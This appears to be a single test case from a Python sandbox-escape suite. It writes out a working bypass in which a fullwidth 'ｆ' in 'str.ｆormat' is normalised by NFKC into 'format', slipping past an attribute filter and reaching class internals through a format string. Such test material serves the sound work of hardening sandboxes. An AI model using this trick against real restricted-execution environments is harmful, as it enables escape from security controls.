# attack: nfkc-format-attribute
# layer: language
# class: escape
# success: an attribute becomes format after normalisation
def run():
    return "PWNED " + str.ｆormat("{0.__class__.__mro__}", ())
